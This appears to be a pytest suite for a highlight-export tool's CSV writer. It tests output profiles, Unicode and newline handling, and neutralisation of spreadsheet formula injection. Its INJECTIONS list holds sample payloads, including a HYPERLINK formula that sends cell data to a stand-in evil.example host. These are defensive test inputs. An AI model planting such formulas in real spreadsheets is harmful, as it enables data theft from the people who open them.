"""The ``csv`` writer: its three profiles, formula-injection safety, and CSV that survives."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pandas
import pytest

from excerpta.model import Document, Highlight, Library
from excerpta.writers.csv_writer import DOCUMENT_FIELDS, FULL_COLUMNS, HIGHLIGHT_FIELDS, render_csv

from paths import CORPUS, EXAMPLES

READWISE_HEADER = ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"]
INJECTIONS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def _render(documents: list[Document], profile: str) -> bytes:
    return b"".join(render_csv(documents, profile))  # type: ignore[arg-type]


def _document(*highlights: Highlight, title: str = "A Book", **fields: object) -> Document:
    return Document(id="d1", title=title, highlights=list(highlights), **fields)  # type: ignore[arg-type]


def _highlight(hid: str, text: str, **fields: object) -> Highlight:
    return Highlight(id=hid, text=text, **fields)  # type: ignore[arg-type]


def test_readwise_profile_writes_exactly_the_readwise_import_columns(run_cli, tmp_path):
    out = tmp_path / "readwise.csv"
    result = run_cli("convert", EXAMPLES / "library.json", "--to", "csv", "--out", out,
                     "--csv-profile", "readwise")
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"Highlight,Title,Author,URL,Note,Location,Date\r\n")
    rows = _rows(data)
    assert rows[0] == READWISE_HEADER
    assert len(rows) == 1 + 8
    assert rows[1] == [
        "I went to the woods because I wished to live deliberately, to front only the essential facts "
        "of life, and see if I could not learn what it had to teach, and not, when I came to die, "
        "discover that I had not lived.",
        "Walden", "Henry David Thoreau", "", "The reason for the whole experiment.", "1337",
        "2024-03-02 21:14:00",
    ]
    assert rows[4][1:] == ["Meditations", "Marcus Aurelius", "", "", "402", "2024-05-10 06:45:00"]
    assert rows[7][:4] == ["Trust thyself: every heart vibrates to that iron string.", "Self-Reliance",
                           "Ralph Waldo Emerson", "https://www.gutenberg.org/files/16643/16643-h/16643-h.htm"]


def test_default_profile_is_spreadsheet_full_columns_behind_a_utf8_bom(run_cli, tmp_path):
    out = tmp_path / "library.csv"
    result = run_cli("convert", EXAMPLES / "library.json", "--to", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfdocument_id,document_title,")
    rows = _rows(data, "utf-8-sig")
    assert tuple(rows[0]) == FULL_COLUMNS
    walden = dict(zip(rows[0], rows[1], strict=True))
    assert walden["document_tags"] == '["philosophy","nature"]'
    assert walden["document_asin"] == "B0082RJSSQ"
    assert walden["highlight_id"] == "ha934d3cdecd4a6a01063"
    assert walden["highlight_location_type"] == "location"
    assert walden["highlight_tags"] == ""
    assert walden["highlight_is_deleted"] == "false"
    assert walden["highlight_updated_at"] == ""


def test_unchanged_library_leaves_the_csv_untouched(run_cli, tmp_path):
    out = tmp_path / "library.csv"
    run_cli("convert", EXAMPLES / "library.json", "--to", "csv", "--out", out)
    first = out.stat().st_mtime_ns
    result = run_cli("convert", EXAMPLES / "library.json", "--to", "csv", "--out", out)
    assert result.exit_code == 0
    assert "unchanged" in result.output
    assert out.stat().st_mtime_ns == first


@pytest.mark.parametrize("payload", INJECTIONS)
def test_spreadsheet_profile_neutralises_cells_a_spreadsheet_would_evaluate(payload):
    document = _document(_highlight("h1", payload, note=payload), title=payload, author="@handle")
    header, row = _rows(_render([document], "spreadsheet"), "utf-8-sig")
    cells = dict(zip(header, row, strict=True))
    assert cells["highlight_text"] == "'" + payload
    assert cells["highlight_note"] == "'" + payload
    assert cells["document_title"] == "'" + payload
    assert cells["document_author"] == "'@handle"


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize("profile", ["readwise", "full"])
def test_parser_profiles_leave_formula_like_cells_untouched(payload, profile):
    document = _document(_highlight("h1", payload, note=payload), title=payload)
    data = _render([document], profile)
    assert not data.startswith(b"\xef\xbb\xbf")
    header, row = _rows(data)
    cells = dict(zip(header, row, strict=True))
    text_column, note_column = (("Highlight", "Note") if profile == "readwise"
                                else ("highlight_text", "highlight_note"))
    assert cells[text_column] == payload
    assert cells[note_column] == payload


def test_spreadsheet_profile_writes_no_nul_or_other_control_character_and_full_keeps_them():
    dirty = "a\x00b\x1fc\x1bd\x7fe\x85f\tg\nh"
    document = _document(_highlight("h1", dirty, note="\x00=1+1"), title=dirty)
    data = _render([document], "spreadsheet")
    text = data.decode("utf-8-sig")
    assert not [c for c in text if (c < " " and c not in "\t\n\r") or "\x7f" <= c <= "\x9f"]
    header, row = _rows(data, "utf-8-sig")
    cells = dict(zip(header, row, strict=True))
    assert cells["highlight_text"] == cells["document_title"] == "ab cdef\tg\nh"
    assert cells["highlight_note"] == "'=1+1"  # a formula once the NUL is gone: neutralized
    header, row = _rows(_render([document], "full"))
    assert dict(zip(header, row, strict=True))["highlight_text"] == dirty


def test_spreadsheet_profile_cuts_a_cell_to_what_excel_holds_and_says_so_full_keeps_it(caplog):
    long_text, emoji_note = "A" * 40_000, "\U0001F600" * 20_000  # 40,000 UTF-16 units each
    document = _document(_highlight("h1", long_text, note=emoji_note), _highlight("h2", "short"))
    header, first, second = _rows(_render([document], "spreadsheet"), "utf-8-sig")
    cells = dict(zip(header, first, strict=True))
    assert cells["highlight_text"] == "A" * 32_766 + "…"
    assert cells["highlight_note"] == "\U0001F600" * 16_383 + "…"  # never half of an emoji
    assert len(cells["highlight_note"].encode("utf-16-le")) // 2 == 32_767
    assert dict(zip(header, second, strict=True))["highlight_text"] == "short"
    assert "2 cell(s) longer than a spreadsheet cell holds (32767 characters) cut" in caplog.text
    header, first, _ = _rows(_render([document], "full"))
    assert dict(zip(header, first, strict=True))["highlight_text"] == long_text


def test_cells_starting_with_a_formula_character_only_later_are_not_escaped():
    document = _document(_highlight("h1", "1 + 1 = 2, said nobody @ noon"))
    _, row = _rows(_render([document], "spreadsheet"), "utf-8-sig")
    assert "1 + 1 = 2, said nobody @ noon" in row


@pytest.mark.parametrize("profile", ["readwise", "full", "spreadsheet"])
def test_newlines_quotes_commas_and_non_latin_text_survive(profile):
    text = 'First line, with a comma\nsecond "quoted" line\r\nthird: 吾輩は猫である — Ἀρχὴ 🚀'
    note = 'Note with "quotes", commas,\nand a newline; Привет'
    title = 'Faust: Eine Tragödie, "Teil 1"'
    document = _document(_highlight("h1", text, note=note, location=12), title=title, author="Gōethe, J. W.")
    header, row = _rows(_render([document], profile), "utf-8-sig")
    cells = dict(zip(header, row, strict=True))
    if profile == "readwise":
        assert (cells["Highlight"], cells["Note"], cells["Title"], cells["Author"]) == (
            text, note, title, "Gōethe, J. W.")
    else:
        assert (cells["highlight_text"], cells["highlight_note"], cells["document_title"]) == (
            text, note, title)


def test_full_profile_has_a_column_for_every_canonical_field_in_model_order():
    assert tuple(name for name in Document.model_fields if name != "highlights") == DOCUMENT_FIELDS
    assert tuple(Highlight.model_fields) == HIGHLIGHT_FIELDS
    _, row = _rows(_render([_document(_highlight("h1", "text", chapter="Part One > 3. The Rise"))],
                           "full"))
    assert dict(zip(FULL_COLUMNS, row, strict=True))["highlight_chapter"] == "Part One > 3. The Rise"


def test_full_profile_joins_lists_as_json_so_separators_inside_tags_stay_unambiguous():
    highlight = _highlight("h1", "text", tags=["a, b", "c;d", 'say "hi"'],
                           external_ids={"readwise": "42"})
    _, row = _rows(_render([_document(highlight, tags=["x"])], "full"))
    cells = dict(zip(FULL_COLUMNS, row, strict=True))
    assert cells["highlight_tags"] == '["a, b","c;d","say \\"hi\\""]'
    assert cells["highlight_external_ids"] == '{"readwise":"42"}'
    assert cells["document_tags"] == '["x"]'


def test_full_profile_keeps_deleted_highlights_and_documents_without_highlights():
    deleted = _highlight("h1", "gone", is_deleted=True, is_favorite=True,
                         highlighted_at=datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC))
    empty = Document(id="d2", title="Nothing highlighted")
    rows = _rows(_render([_document(deleted), empty], "full"))
    assert len(rows) == 3
    first = dict(zip(FULL_COLUMNS, rows[1], strict=True))
    assert (first["highlight_is_deleted"], first["highlight_is_favorite"]) == ("true", "true")
    assert first["highlight_highlighted_at"] == "2024-01-02T03:04:05+00:00"
    second = dict(zip(FULL_COLUMNS, rows[2], strict=True))
    assert second["document_title"] == "Nothing highlighted"
    assert second["highlight_id"] == second["highlight_text"] == ""


def test_spreadsheet_profile_leaves_out_deleted_highlights_and_books_deleted_whole():
    # For people (README audit): the spreadsheet of a --state library showed every highlight
    # deleted upstream; `full` keeps them, flagged, for programs.
    book = _document(_highlight("h1", "kept"), _highlight("h2", "gone", is_deleted=True))
    deleted_book = Document(id="d3", title="Deleted", highlights=[_highlight("h3", "x", is_deleted=True)])
    empty = Document(id="d2", title="Nothing highlighted")
    rows = [dict(zip(FULL_COLUMNS, row, strict=True))
            for row in _rows(_render([book, deleted_book, empty], "spreadsheet"), "utf-8-sig")[1:]]
    assert [(row["document_title"], row["highlight_text"]) for row in rows] == [
        ("A Book", "kept"), ("Nothing highlighted", "")]
    assert {row["highlight_is_deleted"] for row in rows} == {"false", ""}


def test_readwise_profile_writes_dates_as_readwise_import_reads_them_in_utc():
    # Readwise's bulk import takes "YYYY-MM-DD HH:MM:SS" as UTC (reference/readwise.md §3.2).
    berlin = timezone(timedelta(hours=1))
    document = _document(_highlight("h1", "late", highlighted_at=datetime(2009, 10, 31, 23, 25, 7, 123456,
                                                                           tzinfo=berlin)),
                         _highlight("h2", "undated"))
    rows = _rows(_render([document], "readwise"))
    assert [row[6] for row in rows[1:]] == ["2009-10-31 22:25:07", ""]


def test_readwise_profile_leaves_out_deleted_highlights_and_lone_notes():
    document = _document(_highlight("h1", "kept"), _highlight("h2", "gone", is_deleted=True),
                         _highlight("h3", "", note="a note without a passage"))
    rows = _rows(_render([document], "readwise"))
    assert [row[0] for row in rows[1:]] == ["kept"]


def _convert(run_cli, source: Path, out: Path, *args: str) -> Path:
    result = run_cli("convert", source, "--out", out, *args)
    assert result.exit_code == 0, result.output
    return out


def _readwise_view(library: Library) -> list[tuple[object, ...]]:
    """What the readwise profile carries of each highlight."""
    return [(d.title, d.author, d.url, h.text, h.note, h.location, h.highlighted_at)
            for d in library.documents for h in d.highlights]


def test_readwise_profile_round_trips_through_the_readwise_csv_reader(run_cli, tmp_path):
    original = Library.model_validate_json((EXAMPLES / "library.json").read_text(encoding="utf-8"))
    csv_file = _convert(run_cli, EXAMPLES / "library.json", tmp_path / "out.csv",
                        "--to", "csv", "--csv-profile", "readwise")
    back = _convert(run_cli, csv_file, tmp_path / "back.json", "--from", "readwise-csv", "--to", "json")
    read_back = Library.model_validate_json(back.read_text(encoding="utf-8"))
    assert _readwise_view(read_back) == _readwise_view(original)
    assert len(read_back.documents) == 4

    again = _convert(run_cli, back, tmp_path / "again.csv", "--to", "csv", "--csv-profile", "readwise")
    assert again.read_bytes() == csv_file.read_bytes()


def test_readwise_round_trip_keeps_awkward_text_and_the_ids_the_reader_derives(run_cli, tmp_path):
    document = Document(id="d1", title='Faust: "Teil 1", Tragödie', author="Goethe, J. W.",
                        url="https://example.org/faust?a=1&b=2", highlights=[
        Highlight(id="h1", text='Line one, "quoted"\nline two\r\nline three', note="Ἀρχὴ, 吾輩は猫である",
                  location="xii", highlighted_at=datetime(2024, 5, 10, 7, 45, tzinfo=UTC)),
        Highlight(id="h2", text="=SUM(A1:A2) stays a formula for the importer", location=7),
        Highlight(id="h3", text="@mention and -dash", note="+plus"),
    ])
    source = tmp_path / "in.json"
    source.write_text(Library(documents=[document]).model_dump_json(), encoding="utf-8")
    first_csv = _convert(run_cli, source, tmp_path / "1.csv", "--to", "csv", "--csv-profile", "readwise")
    first = _convert(run_cli, first_csv, tmp_path / "1.json", "--from", "readwise-csv", "--to", "json")
    second_csv = _convert(run_cli, first, tmp_path / "2.csv", "--to", "csv", "--csv-profile", "readwise")
    second = _convert(run_cli, second_csv, tmp_path / "2.json", "--from", "readwise-csv", "--to", "json")

    read_back = Library.model_validate_json(first.read_text(encoding="utf-8"))
    assert _readwise_view(read_back) == [
        ('Faust: "Teil 1", Tragödie', "Goethe, J. W.", "https://example.org/faust?a=1&b=2",
         'Line one, "quoted"\nline two\r\nline three', "Ἀρχὴ, 吾輩は猫である", "xii",
         datetime(2024, 5, 10, 7, 45, tzinfo=UTC)),
        ('Faust: "Teil 1", Tragödie', "Goethe, J. W.", "https://example.org/faust?a=1&b=2",
         "=SUM(A1:A2) stays a formula for the importer", None, 7, None),
        ('Faust: "Teil 1", Tragödie', "Goethe, J. W.", "https://example.org/faust?a=1&b=2",
         "@mention and -dash", "+plus", None, None),
    ]
    assert second.read_bytes() == first.read_bytes()
    assert second_csv.read_bytes() == first_csv.read_bytes()


def test_real_readwise_export_keeps_every_highlight_verbatim_in_the_readwise_profile(run_cli, tmp_path):
    source = CORPUS / "readwise" / "csv-export" / "franco3x-bookshq-readwise-data.excerpt.csv"
    out = _convert(run_cli, source, tmp_path / "out.csv", "--to", "csv", "--csv-profile", "readwise")
    with source.open(encoding="utf-8", newline="") as handle:
        expected = sorted((r["Highlight"], r["Book Title"], r["Book Author"], r["Note"], r["Location"])
                          for r in csv.DictReader(handle))
    with out.open(encoding="utf-8", newline="") as handle:
        written = sorted((r["Highlight"], r["Title"], r["Author"], r["Note"], r["Location"])
                         for r in csv.DictReader(handle))
    assert written == expected
    assert len(written) == 15
    assert any("\n\n" in text for text, *_ in written)
    assert any('"' in text for text, *_ in written)


def test_readwise_profile_lists_what_it_left_out_with_v(run_cli, tmp_path):
    document = _document(_highlight("h1", "kept"), _highlight("h2", "gone", is_deleted=True),
                         title="Walden")
    source = tmp_path / "in.json"
    source.write_text(Library(documents=[document]).model_dump_json(), encoding="utf-8")
    result = run_cli("-v", "convert", source, "--to", "csv", "--csv-profile", "readwise",
                     "--out", tmp_path / "out.csv")
    assert result.exit_code == 0
    assert "not exported (deleted): Walden: h2" in result.output


@pytest.mark.parametrize("profile", ["readwise", "full", "spreadsheet"])
def test_an_independent_csv_parser_reads_the_same_cells(profile, tmp_path):
    """pandas' C parser (the one data tools use on spreadsheet exports) agrees with csv."""
    text = 'Line one, "quoted"\r\nline two; 吾輩は猫である 🚀\n=1+1'
    document = _document(_highlight("h1", text, note="a,b\nc", location=7), title='T, "x"', author="Ä")
    path = tmp_path / f"{profile}.csv"
    path.write_bytes(_render([document, _document(_highlight("h2", "@second"), title="Two")], profile))
    header, *rows = _rows(path.read_bytes(), "utf-8-sig")
    frame = pandas.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == header
    assert frame.values.tolist() == rows
